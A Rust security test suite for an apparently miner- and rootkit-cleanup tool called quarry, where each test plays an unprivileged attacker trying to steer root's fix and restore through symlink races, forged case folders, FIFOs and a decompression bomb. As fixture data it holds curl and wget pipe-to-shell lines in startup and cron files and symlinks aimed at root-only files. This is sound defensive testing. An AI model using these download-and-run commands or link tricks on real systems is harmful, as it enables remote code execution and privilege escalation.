//! Issue 8: nothing an unprivileged attacker controls can steer root's
//! `quarry fix` or `quarry restore`.
//!
//! Each test is one row of the attack table. It runs as root in its
//! own mount and PID namespace ([`sandbox`]), with an unprivileged account
//! `mallory` (uid 1500) created there, and decides from the victim's own state
//! (SHA-256, owner, mode, type, attributes) before and after, never from
//! Quarry's messages. A refusal is a pass.

mod common;

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::*;

const UID: u32 = 1500;

/// Creates `mallory` (uid/gid 1500, home /home/mallory) inside the sandbox.
fn add_mallory() {
    use std::io::Write;
    let mut p = std::fs::OpenOptions::new()
        .append(true)
        .open("/etc/passwd")
        .unwrap();
    writeln!(p, "mallory:x:{UID}:{UID}::/home/mallory:/bin/sh").unwrap();
    let mut g = std::fs::OpenOptions::new()
        .append(true)
        .open("/etc/group")
        .unwrap();
    writeln!(g, "mallory:x:{UID}:").unwrap();
    std::fs::create_dir_all("/home/mallory/.ssh").unwrap();
    for d in ["/home/mallory", "/home/mallory/.ssh"] {
        std::os::unix::fs::chown(d, Some(UID), Some(UID)).unwrap();
    }
}

/// Runs a shell command as mallory; it must succeed.
fn as_mallory(script: &str) {
    let out = Command::new("sh")
        .args(["-c", script])
        .uid(UID)
        .gid(UID)
        .current_dir("/")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "mallory's `{script}` failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A miner imitation mallory runs: the burner copied to `path` (owned by
/// mallory, in a folder of hers) and started as her.
fn mallory_miner(path: &str, args: &[&str]) -> ProcGuard {
    let p = Path::new(path);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::copy(burner(), p).unwrap();
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut d = p.parent().unwrap();
    loop {
        std::os::unix::fs::chown(d, Some(UID), Some(UID)).unwrap();
        match d.parent() {
            Some(up) if up != Path::new("/tmp") && up != Path::new("/") => d = up,
            _ => break,
        }
    }
    std::os::unix::fs::chown(p, Some(UID), Some(UID)).unwrap();
    let mut cmd = Command::new(p);
    cmd.args(args).uid(UID).gid(UID);
    start(cmd)
}

/// Everything that tells whether a file was touched: type, owner, group,
/// mode, size, SHA-256 of the content, and chattr attributes.
#[derive(Debug, PartialEq)]
struct FileState {
    kind: &'static str,
    uid: u32,
    gid: u32,
    mode: u32,
    sha256: String,
    attrs: (bool, bool),
    link: Option<PathBuf>,
}

fn state(p: &str) -> Option<FileState> {
    let m = std::fs::symlink_metadata(p).ok()?;
    let kind = if m.file_type().is_symlink() {
        "link"
    } else if m.is_dir() {
        "dir"
    } else if m.is_file() {
        "file"
    } else {
        "other"
    };
    Some(FileState {
        kind,
        uid: m.uid(),
        gid: m.gid(),
        mode: m.mode() & 0o7777,
        sha256: if m.is_file() {
            quarry::collect::modules::sha256_hex(&std::fs::read(p).unwrap())
        } else {
            String::new()
        },
        attrs: quarry::respond::case::get_attrs(Path::new(p)).unwrap_or((false, false)),
        link: std::fs::read_link(p).ok(),
    })
}

/// A root-only secret: the victim of most attacks.
fn secret(p: &str, content: &str) -> FileState {
    std::fs::create_dir_all(Path::new(p).parent().unwrap()).unwrap();
    std::fs::write(p, content).unwrap();
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o600)).unwrap();
    state(p).unwrap()
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// Runs `quarry fix --yes` with a pause after planning, during which
/// `attacker` runs (the race between scan and fix, made deterministic).
fn fix_with_race(args: &[&str], attacker: impl FnOnce()) -> Output {
    let pause = "/root/.quarry-test-pause";
    let child = common::command()
        .arg("fix")
        .arg("--yes")
        .args(["--interval", "0.3"])
        .args(args)
        .env("QUARRY_FIX_PAUSE", pause)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let ready = format!("{pause}.ready");
    let t = Instant::now();
    while !Path::new(&ready).exists() {
        assert!(t.elapsed() < Duration::from_secs(60), "fix never paused");
        std::thread::sleep(Duration::from_millis(20));
    }
    attacker();
    std::fs::write(format!("{pause}.go"), b"").unwrap();
    let out = child.wait_with_output().unwrap();
    let _ = std::fs::remove_file(ready);
    let _ = std::fs::remove_file(format!("{pause}.go"));
    out
}

fn fix(args: &[&str]) -> Output {
    common::command()
        .arg("fix")
        .args(["--interval", "0.3"])
        .args(args)
        .output()
        .unwrap()
}

fn restore_latest() -> Output {
    let mut ids: Vec<String> = std::fs::read_dir("/var/lib/quarry/cases")
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    ids.sort();
    let id = ids.last().expect("a case").clone();
    common::command().args(["restore", &id]).output().unwrap()
}

fn alive(pid: i32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .is_ok_and(|s| !s.contains(") Z") && !s.contains(") X"))
}

/// Row 1: the flagged miner file, then a directory on its path, is swapped for
/// a symbolic link to a root-only file between the scan and the fix.
#[test]
fn row1_swapped_for_a_symlink_between_scan_and_fix() {
    sandboxed!("row1_swapped_for_a_symlink_between_scan_and_fix");
    add_mallory();
    let before = secret("/root/secret", "TOPSECRET\n");
    let m = mallory_miner("/tmp/m/minerd", &[]);
    let out = fix_with_race(&["--only", &m.pid.to_string()], || {
        as_mallory("mv /tmp/m/minerd /tmp/m/minerd.real && ln -s /root/secret /tmp/m/minerd");
    });
    assert_eq!(state("/root/secret").unwrap(), before, "{}", text(&out));
    assert_eq!(state("/tmp/m/minerd").unwrap().kind, "link");
    assert!(text(&out).contains("not touched"), "{}", text(&out));
    // Restore has nothing of the victim's to write back anywhere.
    let r = restore_latest();
    assert_eq!(state("/root/secret").unwrap(), before, "{}", text(&r));
    assert_eq!(state("/tmp/m/minerd").unwrap().kind, "link", "{}", text(&r));

    // The same with a directory on the path.
    let victim = secret("/root/d/minerd", "ROOT ONLY\n");
    let m2 = mallory_miner("/tmp/n/x/minerd", &[]);
    let out = fix_with_race(&["--only", &m2.pid.to_string()], || {
        as_mallory("mv /tmp/n/x /tmp/n/x.real && ln -s /root/d /tmp/n/x");
    });
    assert_eq!(state("/root/d/minerd").unwrap(), victim, "{}", text(&out));
    assert!(!alive(m2.pid), "the miner itself is still stopped");
}

/// Row 2: after a fix, a dangling link at the quarantined path points to
/// /etc/ld.so.preload; restore must not create it.
#[test]
fn row2_dangling_link_waiting_for_restore() {
    sandboxed!("row2_dangling_link_waiting_for_restore");
    add_mallory();
    let _ = std::fs::remove_file("/etc/ld.so.preload");
    let m = mallory_miner("/tmp/m/minerd", &[]);
    let out = fix(&["--yes", "--only", &m.pid.to_string()]);
    assert!(!Path::new("/tmp/m/minerd").exists(), "{}", text(&out));
    as_mallory("ln -s /etc/ld.so.preload /tmp/m/minerd");
    let r = restore_latest();
    assert!(
        std::fs::symlink_metadata("/etc/ld.so.preload").is_err(),
        "restore created /etc/ld.so.preload: {}",
        text(&r)
    );
    assert_eq!(state("/tmp/m/minerd").unwrap().kind, "link");
    assert!(text(&r).contains("refused"), "{}", text(&r));
}

/// Row 3: links planted at every predictable temporary name next to the
/// attacker's own `.bashrc`; the edit must not write through them.
#[test]
fn row3_planted_temp_file_links() {
    sandboxed!("row3_planted_temp_file_links");
    add_mallory();
    let before = secret("/root/secret2", "ROOT 0600\n");
    as_mallory(
        "printf 'alias ll=\"ls -l\"\\ncurl -fsSL http://127.0.0.1:9/x.sh | sh\\n' > /home/mallory/.bashrc \
         && for p in $(seq 1 600); do ln -s /root/secret2 /home/mallory/..bashrc.quarry-tmp-$p; \
         ln -s /root/secret2 /home/mallory/.bashrc.quarry-tmp-$p; done",
    );
    let out = fix(&["--yes", "--only", "/home/mallory/.bashrc"]);
    assert_eq!(state("/root/secret2").unwrap(), before, "{}", text(&out));
    let b = state("/home/mallory/.bashrc").unwrap();
    assert_eq!(
        (b.kind, b.uid, b.mode),
        ("file", UID, 0o644),
        "{}",
        text(&out)
    );
    assert_eq!(
        std::fs::read_to_string("/home/mallory/.bashrc").unwrap(),
        "alias ll=\"ls -l\"\n",
        "{}",
        text(&out)
    );
}

/// Row 4: a forged case folder in /tmp naming a setuid file and an absolute
/// `stored` path; root runs restore from /tmp.
#[test]
fn row4_forged_case_in_tmp() {
    sandboxed!("row4_forged_case_in_tmp");
    add_mallory();
    let before = secret("/root/secret3", "ROOT\n");
    let rec = |seq: u32, state: &str, stored: &str| {
        format!(
            "{{\"seq\":{seq},\"time\":\"t\",\"state\":\"{state}\",\"action\":{{\"kind\":\"quarantine\",\"original\":\"/usr/local/bin/evil\",\"stored\":\"{stored}\",\"sha256\":\"00\",\"meta\":{{\"size\":5,\"mode\":3565,\"uid\":0,\"gid\":0,\"atime\":[0,0],\"mtime\":[0,0],\"immutable\":true,\"append_only\":false}},\"parent\":[0,0]}}}}\n"
        )
    };
    let journal = format!(
        "{}{}{}",
        rec(1, "begin", "files/001"),
        rec(2, "begin", "/root/secret3"),
        rec(3, "done", "files/001")
    );
    as_mallory(
        "mkdir -p /tmp/20261126-000000-1/files && printf 'evil' > /tmp/20261126-000000-1/files/001",
    );
    std::fs::write("/tmp/journal", &journal).unwrap();
    as_mallory("cp /tmp/journal /tmp/20261126-000000-1/journal.jsonl");
    for args in [
        vec!["restore", "20261126-000000-1"],
        vec!["restore", "/tmp/20261126-000000-1"],
        vec!["restore", "./20261126-000000-1"],
        vec!["restore", "--case-root", "/tmp", "20261126-000000-1"],
        vec!["restore", "../../tmp/20261126-000000-1"],
    ] {
        let out = common::command()
            .args(&args)
            .current_dir("/tmp")
            .output()
            .unwrap();
        assert_ne!(out.status.code(), Some(0), "{args:?}: {}", text(&out));
        assert!(
            std::fs::symlink_metadata("/usr/local/bin/evil").is_err(),
            "{args:?} created the setuid file: {}",
            text(&out)
        );
    }
    assert_eq!(state("/root/secret3").unwrap(), before);
    // A case root anyone can write is refused even for listing.
    let out = common::command()
        .args(["cases", "--case-root", "/tmp"])
        .output()
        .unwrap();
    assert!(!text(&out).contains("20261126-000000-1"), "{}", text(&out));
}

/// Row 5: FIFOs where start-up files and preload libraries should be: every
/// scan (and so every fix) must finish.
#[test]
fn row5_fifos_never_block_a_scan() {
    sandboxed!("row5_fifos_never_block_a_scan");
    add_mallory();
    as_mallory(
        "mkfifo /home/mallory/.bashrc /home/mallory/.profile /home/mallory/.ssh/authorized_keys /tmp/lib.so",
    );
    // A process whose environment names the FIFO in LD_PRELOAD: the loader
    // blocks opening it, but the process exists and its environ is readable.
    let mut holder = Command::new("sleep")
        .arg("120")
        .env("LD_PRELOAD", "/tmp/lib.so")
        .uid(UID)
        .gid(UID)
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(200));
    let child = common::command()
        .args(["scan", "--interval", "0.2", "--format", "json"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let t = Instant::now();
    let pid = child.id() as i32;
    while alive(pid) && t.elapsed() < Duration::from_secs(60) {
        std::thread::sleep(Duration::from_millis(100));
    }
    let finished = !alive(pid);
    if !finished {
        let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
    }
    let out = child.wait_with_output().unwrap();
    let _ = holder.kill();
    let _ = holder.wait();
    assert!(finished, "the scan hung on a FIFO");
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", text(&out));
}

/// Row 6: a small `.ko.xz` that unpacks to 1 GiB: the scan's memory stays
/// bounded.
#[test]
#[allow(clippy::zombie_processes)]
fn row6_decompression_bomb() {
    sandboxed!("row6_decompression_bomb");
    let st = Command::new("sh")
        .args(["-c", "head -c 1G /dev/zero | xz -0 -T2 > /tmp/x.ko.xz"])
        .status()
        .unwrap();
    assert!(st.success(), "xz (xz-utils) is needed to build the bomb");
    assert!(std::fs::metadata("/tmp/x.ko.xz").unwrap().len() < 2 * 1024 * 1024);
    let child = common::command()
        .args([
            "scan",
            "--only",
            "modules",
            "--interval",
            "0",
            "--format",
            "json",
            "--module-path",
            "/tmp",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // Reaped by wait4 below, which also gives the peak memory.
    let pid = child.id() as i32;
    let mut status = 0;
    let mut ru: libc::rusage = unsafe { std::mem::zeroed() };
    let r = unsafe { libc::wait4(pid, &mut status, 0, &mut ru) };
    assert_eq!(r, pid);
    assert!(libc::WIFEXITED(status), "the scan died: status {status:#x}");
    let max_rss_mib = ru.ru_maxrss / 1024;
    assert!(
        max_rss_mib < 400,
        "the scan used {max_rss_mib} MiB for a 1 GiB bomb"
    );
}

/// Row 7: a start-up file that is a link to a file with a malicious line: the
/// target is edited with its own owner and mode; the link stays a link.
#[test]
fn row7_symlinked_startup_file_keeps_its_mode() {
    sandboxed!("row7_symlinked_startup_file_keeps_its_mode");
    add_mallory();
    as_mallory(
        "printf 'export A=1\\nwget -q -O- http://127.0.0.1:9/x | sh\\n' > /home/mallory/zz.sh && chmod 640 /home/mallory/zz.sh",
    );
    std::os::unix::fs::symlink("/home/mallory/zz.sh", "/etc/profile.d/zz.sh").unwrap();
    let out = fix(&["--yes", "--only", "/etc/profile.d/zz.sh"]);
    let link = state("/etc/profile.d/zz.sh").unwrap();
    assert_eq!(link.kind, "link", "{}", text(&out));
    let t = state("/home/mallory/zz.sh").unwrap();
    assert_eq!(
        (t.kind, t.uid, t.gid, t.mode),
        ("file", UID, UID, 0o640),
        "{}",
        text(&out)
    );
    assert_eq!(
        std::fs::read_to_string("/home/mallory/zz.sh").unwrap(),
        "export A=1\n",
        "{}",
        text(&out)
    );
}

/// Row 8: a miner named `sleep` with a stratum URL: root's innocent shell
/// loops and system files that mention `sleep` are not touched.
#[test]
fn row8_a_miner_named_like_a_common_program() {
    sandboxed!("row8_a_miner_named_like_a_common_program");
    add_mallory();
    let innocent = start({
        let mut c = Command::new("sh");
        c.args(["-c", "echo ready $$; while :; do sleep 5; done"]);
        c
    });
    std::fs::write(
        "/etc/cron.d/innocent",
        "*/5 * * * * root sleep 5 && /usr/bin/true\n",
    )
    .unwrap();
    let unit = "/usr/local/lib/systemd/system/innocent.service";
    std::fs::create_dir_all(Path::new(unit).parent().unwrap()).unwrap();
    std::fs::write(
        unit,
        "[Service]\nExecStartPre=/bin/sleep 1\nExecStart=/bin/true\n",
    )
    .unwrap();
    let cron_before = state("/etc/cron.d/innocent").unwrap();
    let unit_before = state(unit).unwrap();
    let m = mallory_miner(
        "/tmp/m/sleep",
        &["-o", "stratum+tcp://127.0.0.1:3333", "-u", "x"],
    );
    let out = fix(&["--yes", "--only", &m.pid.to_string()]);
    assert!(!alive(m.pid), "the miner still runs: {}", text(&out));
    assert!(
        alive(innocent.pid),
        "the innocent shell was killed: {}",
        text(&out)
    );
    let st = std::fs::read_to_string(format!("/proc/{}/stat", innocent.pid)).unwrap();
    assert!(!st.contains(") T"), "the innocent shell was left frozen");
    assert_eq!(state("/etc/cron.d/innocent").unwrap(), cron_before);
    assert_eq!(state(unit).unwrap(), unit_before);
}

/// Row 9: a cgroup named with multibyte characters: the scan must not panic.
#[test]
fn row9_multibyte_cgroup_name() {
    sandboxed!("row9_multibyte_cgroup_name");
    let base = [
        "/sys/fs/cgroup/systemd",
        "/sys/fs/cgroup/unified",
        "/sys/fs/cgroup",
    ]
    .into_iter()
    .find(|b| Path::new(b).join("cgroup.procs").exists());
    let Some(base) = base else {
        eprintln!("SKIPPED: no writable cgroup hierarchy");
        return;
    };
    let top = PathBuf::from(base).join("quarry-test-é");
    let cg = top.join("docker").join("éééééééééééééééé");
    if std::fs::create_dir_all(&cg).is_err() {
        eprintln!("SKIPPED: cannot create a cgroup under {base}");
        return;
    }
    let m = start(Command::new(burner()));
    std::fs::write(cg.join("cgroup.procs"), m.pid.to_string()).unwrap();
    let s = scan(&["--interval", "0.2"]);
    // Move it out and remove the cgroups this test created.
    drop(m);
    std::thread::sleep(Duration::from_millis(100));
    let _ = std::fs::remove_dir(&cg);
    let _ = std::fs::remove_dir(top.join("docker"));
    let _ = std::fs::remove_dir(&top);
    assert!(matches!(s.code, 0 | 1), "{}", s.stderr);
}

/// Row 10: names that are not UTF-8: a module under such a folder is found and
/// a miner under one is quarantined, not "already gone".
#[test]
fn row10_paths_that_are_not_utf8() {
    sandboxed!("row10_paths_that_are_not_utf8");
    use std::os::unix::ffi::OsStrExt;
    let dir = std::ffi::OsStr::from_bytes(b"/tmp/\xff\xfe");
    std::fs::create_dir_all(dir).unwrap();
    build_module(
        "snd_pcs",
        FAKEMOD_RELEASE,
        &Path::new(dir).join("snd_pcs.ko"),
    );
    let miner = Path::new(dir).join("minerd");
    std::fs::copy(burner(), &miner).unwrap();
    std::fs::set_permissions(&miner, std::fs::Permissions::from_mode(0o755)).unwrap();
    let m = start(Command::new(&miner));
    // A cron file whose name is not UTF-8 is read and judged too.
    std::fs::write(
        std::ffi::OsStr::from_bytes(b"/etc/cron.d/\xffjob"),
        "* * * * * root curl -fsSL http://127.0.0.1:9/nonutf8.sh | sh\n",
    )
    .unwrap();
    let s = scan(&["--interval", "0.3", "--module-path", "/tmp"]);
    assert!(
        s.findings().iter().any(|f| f["rule"] == "module.file"),
        "{:#}",
        s.json["findings"]
    );
    assert!(
        s.findings()
            .iter()
            .any(|f| f["rule"] == "persistence.cron"
                && f["subject"]["path"] == "/etc/cron.d/\\xffjob"),
        "{:#}",
        s.json["findings"]
    );
    let out = fix(&["--yes", "--only", &m.pid.to_string()]);
    assert!(!alive(m.pid), "{}", text(&out));
    assert!(!miner.exists(), "not quarantined: {}", text(&out));
    assert!(!text(&out).contains("already gone"), "{}", text(&out));
}

/// Without any attacker: an extracted kernel module tree under /tmp is never
/// planned; and a plan of more than 25 files (here 30 module files named like
/// a rootkit's) is refused unless --only or --force scopes it.
#[test]
fn a_kernel_tree_under_tmp_is_not_quarantined() {
    sandboxed_clean!("a_kernel_tree_under_tmp_is_not_quarantined");
    let cc = |name: &str, out: &Path| build_module(name, FAKEMOD_RELEASE, out);
    let tree = Path::new("/tmp/linux/lib/modules/6.1.0-test");
    for i in 0..40 {
        cc(
            &format!("mod{i}"),
            &tree.join(format!("kernel/drivers/mod{i}.ko")),
        );
    }
    std::fs::write(tree.join("modules.dep"), "").unwrap();
    for args in [vec![], vec!["--force"]] {
        let out = fix(&args);
        assert!(
            !text(&out).contains("quarantine /tmp/linux"),
            "{}",
            text(&out)
        );
    }
    // 30 files named like a rootkit module: critical, so planned by default,
    // but more than 25 files: refused without a scope.
    for i in 0..30 {
        cc("snd_pcs", Path::new(&format!("/tmp/r/m{i}.ko")));
    }
    let out = fix(&[]);
    assert!(text(&out).contains("more than 25"), "{}", text(&out));
    assert!(!text(&out).contains("quarantine /tmp/r/"), "{}", text(&out));
    let forced = fix(&["--force"]);
    assert_eq!(
        text(&forced).matches("quarantine /tmp/r/").count(),
        30,
        "{}",
        text(&forced)
    );
    let one = fix(&["--only", "/tmp/r/m3.ko"]);
    assert_eq!(
        text(&one).matches("quarantine /tmp/").count(),
        1,
        "{}",
        text(&one)
    );
}

/// A flagged file with another hard link is another name for someone's file:
/// the process is stopped, the file is not moved or made 0400.
#[test]
fn hard_linked_file_is_not_quarantined() {
    sandboxed!("hard_linked_file_is_not_quarantined");
    std::fs::create_dir_all("/tmp/h").unwrap();
    std::fs::create_dir_all("/tmp/keep").unwrap();
    std::fs::copy(burner(), "/tmp/keep/tool").unwrap();
    std::fs::set_permissions("/tmp/keep/tool", std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::hard_link("/tmp/keep/tool", "/tmp/h/minerd").unwrap();
    let before = state("/tmp/keep/tool").unwrap();
    let m = start(Command::new("/tmp/h/minerd"));
    let out = fix(&["--yes", "--only", &m.pid.to_string()]);
    assert!(!alive(m.pid), "{}", text(&out));
    assert_eq!(state("/tmp/keep/tool").unwrap(), before, "{}", text(&out));
    assert!(Path::new("/tmp/h/minerd").exists(), "{}", text(&out));
    assert!(text(&out).contains("hard links"), "{}", text(&out));
}
